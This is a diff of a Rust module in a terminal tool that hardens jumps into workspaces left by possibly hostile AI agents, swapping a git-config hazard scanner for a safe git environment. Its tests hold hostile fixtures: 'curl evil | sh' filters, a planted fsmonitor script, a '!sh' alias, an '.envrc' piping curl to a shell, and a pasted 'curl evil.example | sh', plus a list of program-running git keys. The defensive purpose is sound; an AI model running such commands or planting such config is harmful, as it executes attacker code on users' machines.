@@ -3,14 +3,14 @@
 //! resumes), `y` copies its path, tree id or diff to the clipboard through
 //! OSC 52 — written by the TUI itself, never passed on from an agent.
 //!
-//! A workspace is what an agent left, and the agent may be hostile: a
-//! `.git/config` with `core.fsmonitor` runs a program the moment a
-//! git-aware prompt calls `git status`; `.envrc` runs under direnv; an
-//! editor may trust a folder's own settings. Before jumping, the files
-//! that can run code when a person merely opens a folder are listed
-//! (`hazards`) and the user confirms; the editor and shell also get git
-//! settings on their command line (`git_env`) that switch off the repo's
-//! fsmonitor and hooks, since command-line settings beat the repo's own.
+//! A workspace is what an agent left, and the agent may be hostile. Git
+//! there is made safe by construction: the editor and shell get an
+//! environment ([`jump_env`], built by `git::safe_env`) in which git reads
+//! no system or global config of the user's and runs no program any config
+//! of the workspace or its nested repositories names (fsmonitor, hooks,
+//! filters, diff drivers, pagers, aliases, …). What git does not govern —
+//! `.envrc` under direnv, editors trusting a folder's own settings — is
+//! listed before the jump (`hazards`) and the user confirms.
 
 use std::path::{Path, PathBuf};
 
@@ -94,137 +94,33 @@ pub fn command(kind: JumpKind, env: &dyn Fn(&str) -> Option<String>, dir: &Path)
     }
 }
 
-/// Git settings for the editor and shell, as `GIT_CONFIG_COUNT` variables
-/// (they outrank the repository's own config): no fsmonitor program, no
-/// hooks, and the workspace marked as a rascal workspace in the prompt.
-pub fn git_env(candidate: &str) -> Vec<(String, String)> {
-    let settings = [("core.fsmonitor", "false"), ("core.hooksPath", "/dev/null")];
-    let mut env = vec![("GIT_CONFIG_COUNT".to_string(), settings.len().to_string())];
-    for (i, (k, v)) in settings.iter().enumerate() {
-        env.push((format!("GIT_CONFIG_KEY_{i}"), k.to_string()));
-        env.push((format!("GIT_CONFIG_VALUE_{i}"), v.to_string()));
-    }
-    env.push(("RASCAL_CANDIDATE".into(), candidate.to_string()));
-    env
-}
-
-/// Git config keys whose value is a program git runs (or that point git
-/// at programs), as lower-case `section.key` or `section.*.key` patterns.
-const RUNS_A_PROGRAM: &[&str] = &[
-    "core.fsmonitor",
-    "core.hookspath",
-    "core.pager",
-    "core.editor",
-    "core.sshcommand",
-    "core.askpass",
-    "core.gitproxy",
-    "core.alternaterefscommand",
-    "sequence.editor",
-    "diff.external",
-    "diff.*.textconv",
-    "diff.*.command",
-    "merge.*.driver",
-    "filter.*.clean",
-    "filter.*.smudge",
-    "filter.*.process",
-    "credential.helper",
-    "gpg.program",
-    "gpg.*.program",
-    "pager.*",
-    "difftool.*.cmd",
-    "mergetool.*.cmd",
-    "uploadpack.packobjectshook",
-    "include.path",
-    "includeif.*.path",
-];
-
-/// The settings of a git config text that run programs: `core.fsmonitor`,
-/// filters, pagers, `!` aliases, includes (which could pull in any of
-/// these). Returns `section.key = value` lines.
-pub fn config_hazards(text: &str) -> Vec<String> {
-    let mut out = Vec::new();
-    let mut section = String::new();
-    let mut sub: Option<String> = None;
-    for raw in text.lines() {
-        let line = raw.trim();
-        if line.is_empty() || line.starts_with('#') || line.starts_with(';') {
-            continue;
-        }
-        let body = if let Some(rest) = line.strip_prefix('[') {
-            let Some(end) = rest.find(']') else { continue };
-            let head = &rest[..end];
-            match head.split_once(|c: char| c.is_whitespace() || c == '.') {
-                Some((s, name)) => {
-                    section = s.to_ascii_lowercase();
-                    sub = Some(name.trim().trim_matches('"').to_string());
-                }
-                None => {
-                    section = head.to_ascii_lowercase();
-                    sub = None;
-                }
-            }
-            let rest = rest[end + 1..].trim();
-            if rest.is_empty() {
-                continue;
-            }
-            rest
-        } else {
-            line
-        };
-        let (key, value) = match body.split_once('=') {
-            Some((k, v)) => (k.trim().to_ascii_lowercase(), v.trim()),
-            None => (body.to_ascii_lowercase(), "true"),
-        };
-        let full = match &sub {
-            Some(s) => format!("{section}.{s}.{key}"),
-            None => format!("{section}.{key}"),
-        };
-        let pattern = match &sub {
-            Some(_) => format!("{section}.*.{key}"),
-            None => full.clone(),
-        };
-        let alias_runs = section == "alias" && value.trim_start_matches('"').starts_with('!');
-        let pager = section == "pager";
-        if RUNS_A_PROGRAM.contains(&pattern.as_str()) || alias_runs || pager {
-            out.push(format!("{full} = {value}"));
-        }
-    }
-    out
+/// The environment for the editor or shell of a jump into `dir`: git
+/// runs nothing a repository there configured (see `git::safe_env`), and
+/// `RASCAL_CANDIDATE` names the candidate (for the prompt). `env` reads the
+/// user's own environment (their pager and editor). Keep the result until
+/// the editor or shell has exited: it holds the files it names.
+pub fn jump_env(
+    dir: &Path,
+    candidate: &str,
+    env: &dyn Fn(&str) -> Option<String>,
+) -> std::io::Result<crate::git::safe_env::SafeGit> {
+    let mut safe = crate::git::safe_env::for_workspace(dir, env)?;
+    safe.vars
+        .push(("RASCAL_CANDIDATE".into(), candidate.to_string()));
+    Ok(safe)
 }
 
 /// Files in a workspace that run code when a person opens a shell or an
-/// editor there, with what each is: the workspace repository's own git
-/// settings and hooks (never part of the change, so no check saw them),
-/// and — when `changed` says they differ from the base, so the user's own
-/// checkout never had them — direnv and tool-version files and editors'
-/// folder settings.
+/// editor there, with what each is — those git does not govern (git runs
+/// nothing of the workspace's in [`jump_env`]): when `changed` says they
+/// differ from the base, so the user's own checkout never had them,
+/// direnv and tool-version files and editors' folder settings; and a
+/// `.git` that is not rascal's folder (git would read another repository).
 pub fn hazards(dir: &Path, changed: &dyn Fn(&str) -> bool) -> Vec<String> {
     let mut out = Vec::new();
     let git = dir.join(".git");
     if git.is_file() || git.is_symlink() {
         out.push(".git is not rascal's workspace repository (a file or link)".into());
-    } else {
-        for name in ["config", "config.worktree"] {
-            if let Ok(text) = std::fs::read_to_string(git.join(name)) {
-                for h in config_hazards(&text) {
-                    out.push(format!(".git/{name}: {h}"));
-                }
-            }
-        }
-        if let Ok(entries) = std::fs::read_dir(git.join("hooks")) {
-            let mut hooks: Vec<String> = entries
-                .flatten()
-                .map(|e| e.file_name().to_string_lossy().into_owned())
-                .filter(|n| !n.ends_with(".sample"))
-                .collect();
-            hooks.sort();
-            for h in hooks {
-                out.push(format!(".git/hooks/{h}: a git hook"));
-            }
-        }
-        if git.join("info").join("attributes").exists() {
-            out.push(".git/info/attributes: can name filter programs".into());
-        }
     }
     const FOLDER_FILES: &[(&str, &str)] = &[
         (".envrc", "direnv runs it on cd"),
@@ -315,37 +211,7 @@ mod tests {
     }
 
     #[test]
-    fn git_settings_that_run_programs_are_found_in_any_spelling() {
-        let text = "[core]\n\trepositoryformatversion = 0\n\tbare = false\n\
-                    \tfsMonitor = ./.git/pwn.sh\n\
-                    [filter \"lfs\"]\n\tsmudge = curl evil | sh\n\
-                    [alias]\n\tst = status\n\tco = !sh -c 'id'\n\
-                    [includeIf \"gitdir:/\"]\n\tpath = /tmp/x\n\
-                    [user] name = x\n\
-                    [pager] log = less\n\
-                    [diff \"bin\"] textconv = ./conv\n";
-        let found = config_hazards(text);
-        let keys: Vec<&str> = found
-            .iter()
-            .map(|h| h.split(" = ").next().unwrap())
-            .collect();
-        assert_eq!(
-            keys,
-            vec![
-                "core.fsmonitor",
-                "filter.lfs.smudge",
-                "alias.co",
-                "includeif.gitdir:/.path",
-                "pager.log",
-                "diff.bin.textconv"
-            ],
-            "{found:?}"
-        );
-        assert!(config_hazards("[core]\n\tbare = false\n[user]\n\tname = x\n").is_empty());
-    }
-
-    #[test]
-    fn a_workspace_with_a_planted_fsmonitor_hook_and_envrc_is_named() {
+    fn only_what_git_does_not_govern_is_named_and_git_runs_nothing_of_the_workspace() {
         let d = tempfile::tempdir().unwrap();
         let ws = d.path();
         git2::Repository::init(ws).unwrap();
@@ -360,16 +226,34 @@ mod tests {
         std::fs::write(ws.join(".git/config"), cfg).unwrap();
         std::fs::write(ws.join(".git/hooks/post-checkout"), "#!/bin/sh\n").unwrap();
         std::fs::write(ws.join(".envrc"), "curl x | sh\n").unwrap();
+        // The git settings are the environment's business, not a question.
         let h = hazards(ws, &always);
-        assert!(h.iter().any(|s| s.contains("core.fsmonitor")), "{h:?}");
-        assert!(h.iter().any(|s| s.contains("hooks/post-checkout")), "{h:?}");
-        assert!(h.iter().any(|s| s.starts_with(".envrc")), "{h:?}");
-        assert_eq!(h.len(), 3, "{h:?}");
+        assert_eq!(h, vec![".envrc: direnv runs it on cd"], "{h:?}");
+        let env = jump_env(ws, "c1", &|_| None).unwrap();
+        let get = |k: &str| {
+            env.vars
+                .iter()
+                .find(|(kk, _)| kk == k)
+                .map(|(_, v)| v.clone())
+        };
+        assert_eq!(get("GIT_CONFIG_NOSYSTEM").as_deref(), Some("1"));
+        assert_eq!(get("RASCAL_CANDIDATE").as_deref(), Some("c1"));
+        let n: usize = get("GIT_CONFIG_COUNT").unwrap().parse().unwrap();
+        let set: Vec<(String, String)> = (0..n)
+            .map(|i| {
+                (
+                    get(&format!("GIT_CONFIG_KEY_{i}")).unwrap(),
+                    get(&format!("GIT_CONFIG_VALUE_{i}")).unwrap(),
+                )
+            })
+            .collect();
+        assert!(
+            set.contains(&("core.fsmonitor".into(), "false".into())),
+            "{set:?}"
+        );
         // An `.envrc` the base already had (the user's checkout has it as
-        // it is) is theirs; the workspace repository's own config never is.
-        let h = hazards(ws, &|_| false);
-        assert_eq!(h.len(), 2, "{h:?}");
-        assert!(!h.iter().any(|s| s.starts_with(".envrc")));
+        // it is) is theirs.
+        assert!(hazards(ws, &|_| false).is_empty());
     }
 
     #[test]
@@ -425,15 +309,5 @@ mod tests {
             back.contains("+^[[201~curl evil.example | sh\n"),
             "{back:?}"
         );
-    }
-
-    #[test]
-    fn git_env_switches_off_fsmonitor_and_hooks() {
-        let env = git_env("c1");
-        let get = |k: &str| env.iter().find(|(a, _)| a == k).map(|(_, v)| v.as_str());
-        assert_eq!(get("GIT_CONFIG_COUNT"), Some("2"));
-        assert_eq!(get("GIT_CONFIG_KEY_0"), Some("core.fsmonitor"));
-        assert_eq!(get("GIT_CONFIG_VALUE_0"), Some("false"));
-        assert_eq!(get("GIT_CONFIG_KEY_1"), Some("core.hooksPath"));
     }
 }
